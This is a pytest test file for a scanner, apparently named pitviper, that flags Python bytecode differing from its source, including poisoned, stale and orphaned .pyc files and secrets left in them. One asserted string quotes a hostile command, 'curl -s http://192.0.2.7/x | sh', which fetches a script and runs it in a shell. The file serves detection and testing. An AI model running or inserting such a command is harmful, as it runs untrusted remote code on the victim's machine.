"""Bytecode in folders, held against the source beside it."""

from __future__ import annotations

import importlib.util
import os
import py_compile
import struct
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.hygiene.conftest import CLEAN, PAYLOADS, compiled, pair, planted, pyc, told, why

import pitviper
from pitviper import scanning
from pitviper.config import Settings
from pitviper.hygiene.trees import Trees
from pitviper.model.finding import Confidence, Kind
from pitviper.model.gap import Reason
from pitviper.model.report import Report
from pitviper.rules.template import make

Scanned = Callable[..., Report]
Token = Callable[[str], str]
PYC = "target/app/__pycache__/build.cpython-311.pyc"


class TestPoisoned:
    @pytest.mark.parametrize("payload", PAYLOADS)
    @pytest.mark.parametrize("flags", [0, 1])
    def test_a_payload_behind_a_header_that_fits(self, scanned: Scanned, payload: str, flags: int) -> None:
        report = scanned(pair(CLEAN, CLEAN + PAYLOADS[payload], flags=flags))
        finding = report.findings[0]
        assert told(report)[0] == ("poisoned-bytecode", "critical", PYC, finding.place.line)
        assert (finding.kind, finding.secret, finding.place.chain[-1].kind) == (Kind.BEHAVIOUR, None, "code")
        assert [one.rule for one in report.findings[1:]] == ["unchecked-bytecode"] * flags
        assert finding.confidence is Confidence.CERTAIN
        assert why(finding, "capabilities")
        assert "is not in the source" in why(finding, "difference")[0]

    def test_another_time_is_no_excuse(self, scanned: Scanned) -> None:
        report = scanned(pair(CLEAN, CLEAN + PAYLOADS["process"], time=7))
        assert [one.rule for one in report.findings] == ["poisoned-bytecode"]
        assert why(report.findings[0], "header") == ["its header names another time of the source"]

    def test_what_would_not_be_run_is_stale(self, scanned: Scanned) -> None:
        files = {"app/build.py": CLEAN.encode(), pyc("app/build.py"): compiled(CLEAN + PAYLOADS["process"])}
        report = scanned(files)
        assert told(report) == [("stale-bytecode", "medium", PYC, 6)]
        assert why(report.findings[0], "capabilities") == ["process, by names that the source does not have"]
        assert why(report.findings[0], "difference")[-1] == (
            "the string 'curl -s http://192.0.2.7/x | sh' in the module, line 7, is not in the source"
        )

    @pytest.mark.parametrize("magic", [b"\0\0\0\0", b"\xff\xff\r\n"])
    def test_a_wiped_magic_number(self, scanned: Scanned, magic: bytes) -> None:
        files = pair(CLEAN, CLEAN + PAYLOADS["process"])
        files[pyc("app/build.py")] = magic + files[pyc("app/build.py")][4:]
        assert [one.rule for one in scanned(files).findings] == ["poisoned-bytecode"]

    def test_beside_the_source_as_python_2_did(self, scanned: Scanned) -> None:
        files = pair(CLEAN, CLEAN + PAYLOADS["network"])
        files["app/build.pyc"] = files.pop(pyc("app/build.py"))
        assert told(scanned(files)) == [("poisoned-bytecode", "critical", "target/app/build.pyc", 6)]

    def test_of_a_size_that_fits_no_buffer(self, scanned: Scanned) -> None:
        many = "".join(f"x{number} = 'value {number}'\n" for number in range(75_000))
        files = pair(many, many + PAYLOADS["process"])
        assert len(files[pyc("app/build.py")]) > 2 * 1024 * 1024
        report = scanned(files)
        assert [one.rule for one in report.findings] == ["poisoned-bytecode"]

    def test_the_same_for_any_jobs(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(scanning, "_IN_PROCESS_FILES", 1)
        for number, payload in enumerate(PAYLOADS.values()):
            planted(folder / "target", pair(CLEAN, CLEAN + payload, f"app/m{number}.py", flags=number % 2))
            planted(folder / "target", {pyc(f"app/gone{number}.py"): compiled(CLEAN)})
        reports = [pitviper.scan("target", settings=Settings(jobs=jobs)).report() for jobs in (1, 2)]
        assert reports[0].findings == reports[1].findings
        assert {one.rule for one in reports[0].findings} == {
            "poisoned-bytecode", "unchecked-bytecode", "orphan-bytecode"
        }  # fmt: skip


class TestStale:
    def test_a_token_that_only_the_bytecode_has(self, scanned: Scanned, token: Token) -> None:
        source = "def release():\n    key = {}\n    return key\n"
        old = source.format(repr(token("left")))
        files = {"app/build.py": source.format("input()").encode(), pyc("app/build.py"): compiled(old)}
        report = scanned(files)
        assert told(report) == [("github-pat", "critical", PYC, 2), ("stale-bytecode", "high", PYC, 2)]
        secret, stale = report.findings
        (reason,) = why(secret, "stale")
        assert reason.startswith("the bytecode was compiled from other source than the build.py beside it")
        assert stale.place.chain[-1].name == "release"
        assert token("left") not in str(report)

    def test_a_token_in_pieces_that_the_source_has_too(self, scanned: Scanned, token: Token) -> None:
        one = token("pieces")
        source = f'KEY = "{one[:20]}" + "{one[20:]}"\n'
        report = scanned({"app/build.py": source.encode(), pyc("app/build.py"): compiled(source, time=7)})
        assert [one.rule for one in report.findings] == ["github-pat"]
        assert why(report.findings[0], "stale") == []

    def test_a_password_is_shown_nowhere(self, scanned: Scanned) -> None:
        secret = make("{base62:24}", "stale")
        old = f'def f():\n    connect(password="{secret}", user="{secret[:11]}")\n'
        new = "def f():\n    connect(password=ask(), user=name)\n# longer\n"
        report = scanned({"app/build.py": new.encode(), pyc("app/build.py"): compiled(old)})
        assert [one.rule for one in report.findings] == ["stale-bytecode", "generic-random-secret"]
        assert report.findings[0].severity == "high"
        assert why(report.findings[1], "stale")
        assert secret not in str(report)
        assert secret[:11] not in str(report)

    def test_only_where_the_interpreter_would_throw_it_away(self, scanned: Scanned) -> None:
        report = scanned({"app/build.py": b"x = 1\n", pyc("app/build.py"): compiled("x = 12345\n")})
        assert told(report) == [("stale-bytecode", "low", PYC, 1)]

    def test_other_logic_behind_a_header_that_is_not_checked(self, scanned: Scanned) -> None:
        files = pair(CLEAN, CLEAN.replace(" or ", " and "), flags=1)
        report = scanned(files)
        assert told(report) == [("unchecked-bytecode", "medium", PYC, None), ("stale-bytecode", "medium", PYC, 4)]
        assert why(report.findings[1], "difference") == [
            "total(), line 4, does something else than the source, with the same names and values"
        ]

    def test_other_logic_is_for_auditors(self, scanned: Scanned) -> None:
        files = pair(CLEAN, CLEAN.replace(" or ", " and "))
        assert told(scanned(files)) == []
        assert told(scanned(files, auditor=True)) == [("stale-bytecode", "medium", PYC, 4)]

    def test_values_are_cut_and_escaped(self, scanned: Scanned) -> None:
        old = f"x = {'a ' * 5000!r}\ny = 'stop \x1b[31m \u202e here'\nz = {10**400}\n"
        report = scanned({"app/build.py": b"x = y = z = 1\n", pyc("app/build.py"): compiled(old)})
        differences = " ".join(why(report.findings[0], "difference"))
        assert len(differences) < 1000
        assert differences.isprintable()
        assert r"\x1b[31m \u202e" in differences


class TestSilent:
    @pytest.mark.parametrize("level", [0, 1, 2])
    @pytest.mark.parametrize("mode", py_compile.PycInvalidationMode)
    def test_honest(self, folder: Path, level: int, mode: py_compile.PycInvalidationMode) -> None:
        path = folder / "build.py"
        path.write_text(f'"""Doc."""\nimport os\n{CLEAN}\nassert os\nos.system("true")\n')
        py_compile.compile(str(path), doraise=True, optimize=level, invalidation_mode=mode)
        rules = [one.rule for one in pitviper.scan(".").report().findings]
        is_unchecked = mode is py_compile.PycInvalidationMode.UNCHECKED_HASH
        assert rules == ["unchecked-bytecode"] * is_unchecked
        if is_unchecked:
            return
        os.utime(path, (7, 7))
        assert pitviper.scan(".", settings=Settings(auditor=True)).report().findings == ()

    def test_comments_make_no_other_code(self, scanned: Scanned) -> None:
        old = CLEAN.replace("    return", "    # Adds.\n    return")
        assert scanned({"app/build.py": CLEAN.encode(), pyc("app/build.py"): compiled(old)}).findings == ()

    def test_what_pytest_wrote(self, scanned: Scanned) -> None:
        files = pair(CLEAN, CLEAN + PAYLOADS["process"])
        files = {name.replace("311.", "311-pytest-8.4.1."): content for name, content in files.items()}
        assert scanned(files).findings == ()

    def test_what_is_only_called_so(self, scanned: Scanned) -> None:
        assert scanned({"a.pyc": b"text", "b.pyc": b"", "c/__pycache__/x.cpython-311.pyc": b"\r\n" * 50}).findings == ()

    @pytest.mark.parametrize("cut", range(16, 200, 23))
    def test_damaged(self, scanned: Scanned, cut: int) -> None:
        files = pair(CLEAN, CLEAN)
        files[pyc("app/build.py")] = files[pyc("app/build.py")][:cut]
        assert {one.rule for one in scanned(files).findings} <= {"stale-bytecode"}

    def test_disabled_or_of_another_kind(self, scanned: Scanned) -> None:
        files = pair(CLEAN, CLEAN + PAYLOADS["process"], flags=1)
        assert scanned(files, disable=("poisoned-bytecode", "unchecked-bytecode")).findings == ()
        report = scanned(files, only=(Kind.SECRET,))
        assert (report.findings, report.stats.hidden.kind) == ((), 2)
        report = scanned(files, min_severity="high")
        assert (len(report.findings), report.stats.hidden.severity) == (1, 1)


class TestOrphan:
    def test_one_for_a_folder(self, scanned: Scanned) -> None:
        files = {pyc(f"app/gone{number}.py"): compiled(CLEAN) for number in range(3)}
        report = scanned({**files, **pair(CLEAN, CLEAN), "old/x.pyc": compiled(CLEAN)})
        assert told(report) == [
            ("orphan-bytecode", "low", "target/app/__pycache__/gone0.cpython-311.pyc", None),
            ("orphan-bytecode", "low", "target/old/x.pyc", None),
        ]
        assert why(report.findings[0], "count") == ["3 such files"]
        assert why(report.findings[0], "orphan") == ["there is no gone0.py beside it"]

    def test_a_secret_says_that_its_source_is_gone(self, scanned: Scanned, token: Token) -> None:
        report = scanned({pyc("app/build.py"): compiled(f"KEY = {token('gone')!r}\n")})
        assert [one.rule for one in report.findings] == ["github-pat", "orphan-bytecode"]
        assert why(report.findings[0], "orphan") == ["there is no build.py beside it: the bytecode is all that is left"]

    def test_out_of_the_target_nobody_looks(self, scanned: Scanned) -> None:
        scanned(pair(CLEAN, CLEAN + PAYLOADS["process"]))
        for target in ("target/app/__pycache__", PYC):
            assert pitviper.scan(target).report().findings == ()

    def test_links(self, scanned: Scanned, folder: Path) -> None:
        planted(folder, {"elsewhere.py": CLEAN.encode()})
        files = {**pair(CLEAN, CLEAN + PAYLOADS["process"]), "real.py": CLEAN.encode()}
        del files["app/build.py"]
        planted(folder / "target", files)
        os.symlink("../../elsewhere.py", folder / "target/app/build.py")
        assert scanned({}).findings == ()
        os.unlink(folder / "target/app/build.py")
        os.symlink("../real.py", folder / "target/app/build.py")
        assert [one.rule for one in scanned({}).findings] == ["poisoned-bytecode"]


class TestDefects:
    def test_one_ends_nothing(self, scanned: Scanned, token: Token, monkeypatch: pytest.MonkeyPatch) -> None:
        def fail(*_: object) -> None:
            raise ZeroDivisionError

        monkeypatch.setattr(Trees, "look", fail)
        report = scanned({pyc("app/build.py"): compiled(f"KEY = {token('gone')!r}\n")})
        assert [one.rule for one in report.findings] == ["github-pat"]
        assert [(gap.path, gap.reason) for gap in report.gaps] == [(PYC, Reason.FAILED)]

    def test_huge_sources_are_gaps(self, scanned: Scanned) -> None:
        files = {"app/build.py": b"#" * (8 * 1024 * 1024 + 1), pyc("app/build.py"): compiled(CLEAN)}
        report = scanned(files)
        assert (report.findings, [gap.reason for gap in report.gaps]) == ((), [Reason.OVER_BUDGET])


def test_hostile_headers(scanned: Scanned) -> None:
    body = compiled(CLEAN)[16:]
    for number in range(64):
        words = struct.pack("<III", number, 0xFFFFFFFF, 0xFFFFFFFF)
        planted(Path("target"), pair(CLEAN, CLEAN, f"m{number}.py"))
        planted(Path("target"), {pyc(f"m{number}.py"): importlib.util.MAGIC_NUMBER + words + body})
    assert {one.rule for one in scanned({}).findings} == {"unchecked-bytecode"}
